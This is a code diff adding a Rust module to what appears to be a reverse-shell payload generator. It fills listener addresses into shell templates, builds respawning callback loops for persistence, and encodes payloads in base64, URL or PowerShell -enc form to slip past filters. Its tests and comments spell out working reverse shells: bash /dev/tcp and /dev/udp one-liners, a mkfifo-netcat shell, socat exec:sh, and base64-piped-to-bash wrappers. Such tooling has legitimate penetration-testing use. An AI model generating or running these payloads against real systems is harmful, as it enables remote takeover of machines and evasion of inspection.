@@ -0,0 +1,659 @@
+use crate::config::Endpoints;
+use std::net::IpAddr;
+
+/// Values substituted into shell templates
+#[derive(Clone)]
+pub struct Vars {
+    pub ip: String,
+    pub port: u16,
+    pub http_port: u16,
+    pub token: Option<String>,
+    /// Name of the shell entry being rendered
+    pub shell: String,
+    /// The shell's own `vars`, themselves templates (e.g. `"cmd": "bash -i >& /dev/tcp/{ip}/{port} 0>&1"`)
+    pub custom: Vec<(String, String)>,
+}
+
+/// A shell template and its optional metadata. In shelly.json a template is
+/// either a plain command string or an object:
+///
+/// ```json
+/// { "command": "python3 -c '...'", "os": "linux", "requires": ["python3"],
+///   "pty": true, "transport": "tcp", "description": "...", "tags": ["pty"],
+///   "respawn": "..." }
+/// ```
+///
+/// `respawn` is an optional hand-written variant that keeps calling back
+/// after the shell dies; without it `respawning` builds a generic loop.
+pub struct Template {
+    pub command: String,
+    pub os: Option<String>,
+    pub requires: Vec<String>,
+    pub pty: Option<bool>,
+    pub transport: Option<String>,
+    pub description: Option<String>,
+    pub tags: Vec<String>,
+    pub respawn: Option<String>,
+}
+
+impl Template {
+    pub fn from_json(value: &json::JsonValue) -> Option<Template> {
+        let strings = |key: &str| -> Vec<String> {
+            value[key].members().filter_map(|v| v.as_str().map(|s| s.to_string())).collect()
+        };
+        if let Some(command) = value.as_str() {
+            return Some(Template {
+                command: command.to_string(),
+                os: None,
+                requires: Vec::new(),
+                pty: None,
+                transport: None,
+                description: None,
+                tags: Vec::new(),
+                respawn: None,
+            });
+        }
+        Some(Template {
+            command: value["command"].as_str()?.to_string(),
+            os: value["os"].as_str().map(|s| s.to_string()),
+            requires: strings("requires"),
+            pty: value["pty"].as_bool(),
+            transport: value["transport"].as_str().map(|s| s.to_string()),
+            description: value["description"].as_str().map(|s| s.to_string()),
+            tags: strings("tags"),
+            respawn: value["respawn"].as_str().map(|s| s.to_string()),
+        })
+    }
+
+    /// The template for a variant that reconnects `delay` seconds after the
+    /// shell drops: `respawn` if given, else the command re-run in a
+    /// backgrounded loop (a `for /l` loop for windows templates)
+    pub fn respawning(&self, delay: u64) -> String {
+        if let Some(respawn) = &self.respawn {
+            return respawn.clone();
+        }
+        if self.os.as_deref() == Some("windows") {
+            format!("for /l %i in (0,0,1) do @({} & timeout /t {} /nobreak >nul)", self.command, delay)
+        } else {
+            format!("(while :; do {}; sleep {}; done) >/dev/null 2>&1 &", self.command, delay)
+        }
+    }
+
+    /// `linux, pty, tcp: description`, or empty without metadata
+    pub fn summary(&self) -> String {
+        let mut facts: Vec<&str> = Vec::new();
+        if let Some(os) = &self.os {
+            facts.push(os);
+        }
+        match self.pty {
+            Some(true) => facts.push("pty"),
+            Some(false) => facts.push("no pty"),
+            None => {}
+        }
+        if let Some(transport) = &self.transport {
+            facts.push(transport);
+        }
+        match (facts.is_empty(), &self.description) {
+            (true, None) => String::new(),
+            (true, Some(d)) => d.clone(),
+            (false, None) => facts.join(", "),
+            (false, Some(d)) => format!("{}: {}", facts.join(", "), d),
+        }
+    }
+}
+
+/// Seconds a respawning payload waits before calling back
+/// (`shelly.respawn_delay`)
+pub fn respawn_delay(config: &json::JsonValue) -> u64 {
+    config["shelly"]["respawn_delay"].as_u64().unwrap_or(10)
+}
+
+/// The templates of a `shells` entry, skipping malformed ones
+pub fn templates(shell_obj: &json::JsonValue) -> Vec<Template> {
+    shell_obj["templates"].members().filter_map(Template::from_json).collect()
+}
+
+/// Whether a rendered unix command needs bash rather than sh: `/dev/tcp` and
+/// `/dev/udp` redirections, or a bare `>&` (`>& file` rather than `>&2`)
+pub fn needs_bash(command: &str) -> bool {
+    let bare_dup = command.match_indices(">&").any(|(i, _)| {
+        !matches!(command[i + 2..].chars().next(), Some(c) if c.is_ascii_digit() || c == '-')
+    });
+    bare_dup || command.contains("/dev/tcp/") || command.contains("/dev/udp/")
+}
+
+/// Which templates to list. Templates without an `os` match any os; with
+/// `requires` set (the binaries the target has), only templates needing
+/// nothing else match; `tag` only matches templates that declare it.
+#[derive(Debug, Clone, Default)]
+pub struct Filter {
+    pub os: Option<String>,
+    pub requires: Vec<String>,
+    pub tag: Option<String>,
+}
+
+impl Filter {
+    pub fn matches(&self, template: &Template) -> bool {
+        let os = match (&self.os, &template.os) {
+            (Some(wanted), Some(os)) => wanted.eq_ignore_ascii_case(os),
+            _ => true,
+        };
+        let requires = self.requires.is_empty() || template.requires.iter().all(|r| self.requires.contains(r));
+        let tag = match &self.tag {
+            Some(tag) => template.tags.contains(tag),
+            None => true,
+        };
+        os && requires && tag
+    }
+}
+
+/// A template rendered for the current listener, plus anything the user
+/// should know before firing it
+pub struct Rendered {
+    pub command: String,
+    pub warnings: Vec<String>,
+}
+
+/// How a rendered payload is wrapped for the place it gets pasted into
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Encoding {
+    Raw,
+    /// `echo <base64> | base64 -d | bash`
+    Base64,
+    Url,
+    DoubleUrl,
+    /// `powershell -nop -enc <UTF-16LE base64>`
+    PowerShell,
+    /// Escaped for use inside a JSON string
+    Json,
+}
+
+impl Encoding {
+    pub const NAMES: &'static str = "raw, base64, url, double-url, powershell, json";
+
+    pub const ALL: [Encoding; 6] = [
+        Encoding::Raw,
+        Encoding::Base64,
+        Encoding::Url,
+        Encoding::DoubleUrl,
+        Encoding::PowerShell,
+        Encoding::Json,
+    ];
+
+    pub fn parse(name: &str) -> Result<Self, String> {
+        Self::ALL
+            .into_iter()
+            .find(|e| e.name() == name)
+            .ok_or_else(|| format!("Unknown encoding '{}' (expected one of: {})", name, Self::NAMES))
+    }
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Encoding::Raw => "raw",
+            Encoding::Base64 => "base64",
+            Encoding::Url => "url",
+            Encoding::DoubleUrl => "double-url",
+            Encoding::PowerShell => "powershell",
+            Encoding::Json => "json",
+        }
+    }
+}
+
+/// Wrap a rendered command in `encoding`
+pub fn encode(command: &str, encoding: Encoding) -> String {
+    match encoding {
+        Encoding::Raw => command.to_string(),
+        Encoding::Base64 => format!("echo {} | base64 -d | bash", base64(command.as_bytes())),
+        Encoding::Url => urlencode(command),
+        Encoding::DoubleUrl => urlencode(&urlencode(command)),
+        Encoding::PowerShell => format!("powershell -nop -enc {}", powershell_b64(command)),
+        Encoding::Json => {
+            let quoted = json::stringify(command);
+            quoted[1..quoted.len() - 1].to_string()
+        }
+    }
+}
+
+impl Vars {
+    /// Vars for rendering `shell`'s templates against a listener's advertised
+    /// address
+    pub fn new(shell: &str, shell_obj: &json::JsonValue, endpoints: &Endpoints, token: Option<&str>) -> Self {
+        Vars {
+            ip: endpoints.advertise_host.clone(),
+            port: endpoints.advertise_port,
+            http_port: endpoints.advertise_http_port,
+            token: token.map(|t| t.to_string()),
+            shell: shell.to_string(),
+            custom: shell_obj["vars"]
+                .entries()
+                .filter_map(|(k, v)| v.as_str().map(|s| (k.to_string(), s.to_string())))
+                .collect(),
+        }
+    }
+
+    fn is_ipv6(&self) -> bool {
+        matches!(self.ip.parse::<IpAddr>(), Ok(IpAddr::V6(_)))
+    }
+}
+
+/// Render a template. Plain placeholders (`{ip}`, `{port}`, `{http_port}`,
+/// `{token}`, or the same in double braces) are filled in directly; IPv6
+/// addresses are bracketed wherever they're followed by a port, socat gets
+/// `tcp6:` and python sockets are switched to AF_INET6, with a warning for
+/// templates that can't do IPv6.
+///
+/// `{{name|filter|...}}` expressions look up `ip`, `port`, `http_port`,
+/// `token`, `shell`, the shell's `vars` or `env.NAME`, and pipe the value
+/// through `base64`, `urlencode`, `powershell_b64`, `hex` or `shell_quote`,
+/// e.g. `echo {{cmd|base64}} | base64 -d | bash`.
+pub fn render(template: &str, vars: &Vars) -> Rendered {
+    let mut warnings = Vec::new();
+    let command = render_inner(template, vars, true, &mut warnings);
+    Rendered { command, warnings }
+}
+
+/// Placeholders filled in with single braces too
+const PLACEHOLDERS: [&str; 4] = ["ip", "port", "http_port", "token"];
+
+fn render_inner(template: &str, vars: &Vars, custom: bool, warnings: &mut Vec<String>) -> String {
+    let mut template = template.to_string();
+    for name in PLACEHOLDERS {
+        template = template.replace(&format!("{{{{{}}}}}", name), &format!("{{{}}}", name));
+    }
+
+    if vars.is_ipv6() {
+        template = adapt_for_ipv6(&template, warnings);
+    }
+
+    let template = template
+        .replace("{ip}", &vars.ip)
+        .replace("{port}", &vars.port.to_string())
+        .replace("{http_port}", &vars.http_port.to_string())
+        .replace("{token}", vars.token.as_deref().unwrap_or(""));
+
+    expand(&template, vars, custom, warnings)
+}
+
+/// Evaluate every `{{...}}` expression. Ones that fail are left as written.
+fn expand(template: &str, vars: &Vars, custom: bool, warnings: &mut Vec<String>) -> String {
+    let mut out = String::new();
+    let mut rest = template;
+    while let Some(start) = rest.find("{{") {
+        out.push_str(&rest[..start]);
+        let Some(len) = rest[start + 2..].find("}}") else {
+            out.push_str(&rest[start..]);
+            return out;
+        };
+        let expr = &rest[start + 2..start + 2 + len];
+        match evaluate(expr, vars, custom, warnings) {
+            Ok(value) => out.push_str(&value),
+            Err(e) => {
+                warnings.push(e);
+                out.push_str(&rest[start..start + len + 4]);
+            }
+        }
+        rest = &rest[start + len + 4..];
+    }
+    out.push_str(rest);
+    out
+}
+
+fn evaluate(expr: &str, vars: &Vars, custom: bool, warnings: &mut Vec<String>) -> Result<String, String> {
+    let mut parts = expr.split('|').map(str::trim);
+    let name = parts.next().unwrap_or("");
+    let mut value = lookup(name, vars, custom, warnings)?;
+    for filter in parts {
+        value = apply_filter(filter, &value)?;
+    }
+    Ok(value)
+}
+
+fn lookup(name: &str, vars: &Vars, custom: bool, warnings: &mut Vec<String>) -> Result<String, String> {
+    match name {
+        "ip" => return Ok(vars.ip.clone()),
+        "port" => return Ok(vars.port.to_string()),
+        "http_port" => return Ok(vars.http_port.to_string()),
+        "token" => return Ok(vars.token.clone().unwrap_or_default()),
+        "shell" => return Ok(vars.shell.clone()),
+        _ => {}
+    }
+    if let Some(key) = name.strip_prefix("env.") {
+        return std::env::var(key).map_err(|_| format!("environment variable {} is not set", key));
+    }
+    if custom && let Some((_, value)) = vars.custom.iter().find(|(k, _)| k == name) {
+        // vars may use placeholders and filters, but not other vars
+        return Ok(render_inner(value, vars, false, warnings));
+    }
+    Err(format!("unknown template variable '{}'", name))
+}
+
+fn apply_filter(filter: &str, value: &str) -> Result<String, String> {
+    match filter {
+        "base64" => Ok(base64(value.as_bytes())),
+        "urlencode" => Ok(urlencode(value)),
+        "powershell_b64" => Ok(powershell_b64(value)),
+        "hex" => Ok(value.bytes().map(|b| format!("{:02x}", b)).collect()),
+        "shell_quote" => Ok(format!("'{}'", value.replace('\'', "'\\''"))),
+        _ => Err(format!("unknown template filter '{}'", filter)),
+    }
+}
+
+/// Problems in a template that would otherwise only show up on the target:
+/// unknown placeholders, variables or filters and unbalanced quotes. `vars`
+/// are the names of the shell's `vars` (empty when checking a var itself,
+/// as vars can't use other vars); `windows` templates are quoted cmd-style.
+pub fn lint(template: &str, vars: &[String], windows: bool) -> Vec<String> {
+    let mut problems = Vec::new();
+    let dummy = Vars {
+        ip: "127.0.0.1".to_string(),
+        port: 0,
+        http_port: 0,
+        token: None,
+        shell: String::new(),
+        custom: vars.iter().map(|name| (name.clone(), String::new())).collect(),
+    };
+
+    // {{...}} expressions, cut out so the single brace scan doesn't see them
+    let mut plain = String::new();
+    let mut rest = template;
+    while let Some(start) = rest.find("{{") {
+        plain.push_str(&rest[..start]);
+        let Some(len) = rest[start + 2..].find("}}") else {
+            problems.push("unclosed '{{'".to_string());
+            rest = "";
+            break;
+        };
+        let mut parts = rest[start + 2..start + 2 + len].split('|').map(str::trim);
+        let name = parts.next().unwrap_or("");
+        // the target's environment isn't known here
+        if !name.starts_with("env.")
+            && let Err(e) = lookup(name, &dummy, !vars.is_empty(), &mut Vec::new())
+        {
+            problems.push(e);
+        }
+        for filter in parts {
+            if let Err(e) = apply_filter(filter, "") {
+                problems.push(e);
+            }
+        }
+        rest = &rest[start + len + 4..];
+    }
+    plain.push_str(rest);
+
+    // single brace {name}s that look like placeholders but aren't filled in;
+    // ${var}, awk and powershell blocks don't look like bare identifiers
+    let mut rest = plain.as_str();
+    while let Some(start) = rest.find('{') {
+        let after = &rest[start + 1..];
+        let dollar = rest[..start].ends_with('$');
+        if let Some(end) = after.find('}') {
+            let name = &after[..end];
+            let identifier = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+            if identifier && !dollar && !PLACEHOLDERS.contains(&name) {
+                if name == "shell" || vars.iter().any(|v| v == name) {
+                    problems.push(format!("'{{{}}}' is only filled in as '{{{{{}}}}}'", name, name));
+                } else {
+                    problems.push(format!("unknown placeholder '{{{}}}'", name));
+                }
+            }
+        }
+        rest = after;
+    }
+
+    if let Some(quote) = unbalanced_quote(template, windows) {
+        problems.push(format!("unbalanced {} quote", quote));
+    }
+    problems
+}
+
+/// The kind of quote left open at the end of `command`, if any. POSIX shells
+/// escape with backslashes outside single quotes; cmd doesn't.
+fn unbalanced_quote(command: &str, windows: bool) -> Option<&'static str> {
+    let mut single = false;
+    let mut double = false;
+    let mut chars = command.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if !windows && !single => {
+                chars.next();
+            }
+            '\'' if !double => single = !single,
+            '"' if !single => double = !double,
+            _ => {}
+        }
+    }
+    if single {
+        Some("single")
+    } else if double {
+        Some("double")
+    } else {
+        None
+    }
+}
+
+/// Base64 of the UTF-16LE text, which is what powershell -EncodedCommand expects
+fn powershell_b64(value: &str) -> String {
+    let utf16: Vec<u8> = value.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+    base64(&utf16)
+}
+
+pub fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = (chunk[0] as u32) << 16
+            | (*chunk.get(1).unwrap_or(&0) as u32) << 8
+            | *chunk.get(2).unwrap_or(&0) as u32;
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// Percent-encode everything but RFC 3986 unreserved characters
+fn urlencode(value: &str) -> String {
+    value
+        .bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
+            _ => format!("%{:02X}", b),
+        })
+        .collect()
+}
+
+/// Rewrite IPv4-only syntax in a template before placeholders are filled in
+fn adapt_for_ipv6(template: &str, warnings: &mut Vec<String>) -> String {
+    if template.contains("/dev/tcp/{ip}") || template.contains("/dev/udp/{ip}") {
+        warnings.push("bash /dev/tcp and /dev/udp do not reliably support IPv6".to_string());
+    }
+    if template.contains("PF_INET") || template.contains("inet_aton") {
+        warnings.push("perl PF_INET/inet_aton is IPv4 only".to_string());
+    }
+
+    template
+        // socat address types
+        .replace("tcp:{ip}:", "tcp6:[{ip}]:")
+        .replace("TCP:{ip}:", "TCP6:[{ip}]:")
+        .replace("udp:{ip}:", "udp6:[{ip}]:")
+        .replace("UDP:{ip}:", "UDP6:[{ip}]:")
+        // openssl has no ip6 variant; socat needs the family spelled out
+        .replace("openssl:{ip}:{port}", "openssl:[{ip}]:{port},pf=ip6")
+        .replace("OPENSSL:{ip}:{port}", "OPENSSL:[{ip}]:{port},pf=ip6")
+        .replace("openssl-connect:{ip}:{port}", "openssl-connect:[{ip}]:{port},pf=ip6")
+        .replace("OPENSSL-CONNECT:{ip}:{port}", "OPENSSL-CONNECT:[{ip}]:{port},pf=ip6")
+        // python sockets default to AF_INET
+        .replace("socket.socket()", "socket.socket(socket.AF_INET6)")
+        .replace("socket.AF_INET,", "socket.AF_INET6,")
+        // urls and any other host:port pair
+        .replace("{ip}:{port}", "[{ip}]:{port}")
+        .replace("{ip}:{http_port}", "[{ip}]:{http_port}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn vars(ip: &str) -> Vars {
+        Vars {
+            ip: ip.to_string(),
+            port: 4444,
+            http_port: 8080,
+            token: Some("t0k3n".to_string()),
+            shell: "bash".to_string(),
+            custom: vec![
+                ("cmd".to_string(), "bash -i >& /dev/tcp/{ip}/{port} 0>&1".to_string()),
+                ("nested".to_string(), "{{cmd}}".to_string()),
+            ],
+        }
+    }
+
+    #[test]
+    fn base64_rfc4648_vectors() {
+        let vectors = [
+            ("", ""),
+            ("f", "Zg=="),
+            ("fo", "Zm8="),
+            ("foo", "Zm9v"),
+            ("foob", "Zm9vYg=="),
+            ("fooba", "Zm9vYmE="),
+            ("foobar", "Zm9vYmFy"),
+        ];
+        for (input, expected) in vectors {
+            assert_eq!(base64(input.as_bytes()), expected, "base64({:?})", input);
+        }
+        assert_eq!(base64(&[0xff, 0xfe, 0x00]), "//4A");
+    }
+
+    #[test]
+    fn powershell_b64_is_utf16le() {
+        assert_eq!(powershell_b64("whoami"), "dwBoAG8AYQBtAGkA");
+        assert_eq!(powershell_b64("é€"), "6QCsIA==");
+    }
+
+    #[test]
+    fn urlencode_keeps_unreserved_only() {
+        assert_eq!(urlencode("AZaz09-_.~"), "AZaz09-_.~");
+        assert_eq!(urlencode("a b&c/d"), "a%20b%26c%2Fd");
+        assert_eq!(urlencode("é"), "%C3%A9");
+    }
+
+    #[test]
+    fn filters() {
+        assert_eq!(apply_filter("hex", "AB\n").unwrap(), "41420a");
+        assert_eq!(apply_filter("shell_quote", "it's").unwrap(), "'it'\\''s'");
+        assert_eq!(apply_filter("shell_quote", "").unwrap(), "''");
+        assert!(apply_filter("rot13", "x").is_err());
+    }
+
+    #[test]
+    fn render_placeholders() {
+        let rendered = render("nc {ip} {{port}} # {http_port} {{token}}", &vars("10.0.0.1"));
+        assert_eq!(rendered.command, "nc 10.0.0.1 4444 # 8080 t0k3n");
+        assert!(rendered.warnings.is_empty());
+    }
+
+    #[test]
+    fn render_chained_filters() {
+        let rendered = render("{{port|base64|hex}} {{ shell | shell_quote }}", &vars("10.0.0.1"));
+        // base64("4444") = "NDQ0NA=="
+        assert_eq!(rendered.command, "4e4451304e413d3d 'bash'");
+        assert!(rendered.warnings.is_empty());
+    }
+
+    #[test]
+    fn render_custom_vars() {
+        let rendered = render("echo {{cmd|base64}} | base64 -d | bash", &vars("10.0.0.1"));
+        assert_eq!(
+            rendered.command,
+            format!("echo {} | base64 -d | bash", base64(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
+        );
+        assert!(rendered.warnings.is_empty());
+    }
+
+    #[test]
+    fn render_leaves_failures_as_written() {
+        let rendered = render("{{port|rot13}} {{nope}} {{nested}}", &vars("10.0.0.1"));
+        // vars can't use other vars, so {{nested}} keeps its inner {{cmd}}
+        assert_eq!(rendered.command, "{{port|rot13}} {{nope}} {{cmd}}");
+        assert_eq!(
+            rendered.warnings,
+            [
+                "unknown template filter 'rot13'",
+                "unknown template variable 'nope'",
+                "unknown template variable 'cmd'",
+            ]
+        );
+    }
+
+    #[test]
+    fn render_unclosed_expression() {
+        let rendered = render("echo {{port", &vars("10.0.0.1"));
+        assert_eq!(rendered.command, "echo {{port");
+    }
+
+    #[test]
+    fn ipv6_socat_addresses() {
+        let rendered = render("socat tcp:{ip}:{port} exec:sh", &vars("::1"));
+        assert_eq!(rendered.command, "socat tcp6:[::1]:4444 exec:sh");
+        let rendered = render("socat exec:sh openssl:{ip}:{port},verify=0", &vars("::1"));
+        assert_eq!(rendered.command, "socat exec:sh openssl:[::1]:4444,pf=ip6,verify=0");
+        let rendered = render("socat - OPENSSL-CONNECT:{ip}:{port}", &vars("::1"));
+        assert_eq!(rendered.command, "socat - OPENSSL-CONNECT:[::1]:4444,pf=ip6");
+        assert!(rendered.warnings.is_empty());
+    }
+
+    #[test]
+    fn ipv6_urls_and_warnings() {
+        let rendered = render("curl http://{ip}:{http_port}/x; bash -i >& /dev/tcp/{ip}/{port} 0>&1", &vars("fe80::1"));
+        assert_eq!(rendered.command, "curl http://[fe80::1]:8080/x; bash -i >& /dev/tcp/fe80::1/4444 0>&1");
+        assert_eq!(rendered.warnings, ["bash /dev/tcp and /dev/udp do not reliably support IPv6"]);
+        // IPv4 renders untouched
+        let rendered = render("socat tcp:{ip}:{port} -", &vars("10.0.0.1"));
+        assert_eq!(rendered.command, "socat tcp:10.0.0.1:4444 -");
+    }
+
+    #[test]
+    fn encodings() {
+        assert_eq!(encode("id", Encoding::Base64), "echo aWQ= | base64 -d | bash");
+        assert_eq!(encode("a b", Encoding::DoubleUrl), "a%2520b");
+        assert_eq!(encode("whoami", Encoding::PowerShell), "powershell -nop -enc dwBoAG8AYQBtAGkA");
+        assert_eq!(encode("say \"hi\"\\", Encoding::Json), "say \\\"hi\\\"\\\\");
+    }
+
+    #[test]
+    fn filter_matches() {
+        let template = |json: &str| Template::from_json(&json::parse(json).unwrap()).unwrap();
+        let python = template(r#"{"command": "x", "os": "linux", "requires": ["python3", "bash"], "tags": ["pty"]}"#);
+        let plain = template(r#""bash -i""#);
+        let filter = |os: Option<&str>, requires: &[&str], tag: Option<&str>| Filter {
+            os: os.map(|s| s.to_string()),
+            requires: requires.iter().map(|s| s.to_string()).collect(),
+            tag: tag.map(|s| s.to_string()),
+        };
+        assert!(filter(None, &[], None).matches(&python));
+        assert!(filter(Some("Linux"), &[], None).matches(&python));
+        assert!(!filter(Some("windows"), &[], None).matches(&python));
+        // requires lists what the target has: every binary the template needs must be in it
+        assert!(filter(None, &["bash", "python3", "perl"], None).matches(&python));
+        assert!(!filter(None, &["python3"], None).matches(&python));
+        assert!(filter(None, &["python3"], None).matches(&plain));
+        assert!(filter(None, &[], Some("pty")).matches(&python));
+        assert!(!filter(None, &[], Some("pty")).matches(&plain));
+        assert!(filter(Some("windows"), &["nc"], None).matches(&plain));
+    }
+
+    #[test]
+    fn bash_only_commands() {
+        assert!(needs_bash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+        assert!(needs_bash("sh -i 5<> /dev/udp/10.0.0.1/53 0<&5"));
+        assert!(needs_bash("sh -i >& out"));
+        assert!(!needs_bash("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"));
+        assert!(!needs_bash("exec 3>&-; id >&2"));
+    }
+}